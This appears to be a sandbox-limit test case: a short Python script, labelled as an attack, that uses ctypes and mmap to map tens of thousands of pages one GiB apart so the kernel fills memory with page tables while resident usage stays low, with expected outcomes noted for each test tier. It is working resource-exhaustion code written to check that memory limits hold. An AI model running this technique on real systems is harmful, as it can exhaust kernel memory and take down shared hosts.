# attack: fill memory with page tables, without resident pages
# t3: memory limit
# t2: memory limit
# control: harm
import ctypes
import time


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    PROT_READ, MAP_PRIVATE, MAP_ANONYMOUS, MAP_FIXED_NOREPLACE = 1, 2, 0x20, 0x100000
    flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE
    for number in range(40000):
        # Reading one page in each GiB allocates two pages of page tables.
        at = libc.mmap(0x100000000000 + (number << 30), 4096, PROT_READ, flags, -1, 0)
        ctypes.c_char.from_address(at).value
    # Keeps the mappings until the memory watch has acted.
    time.sleep(2)


attempt(attack)
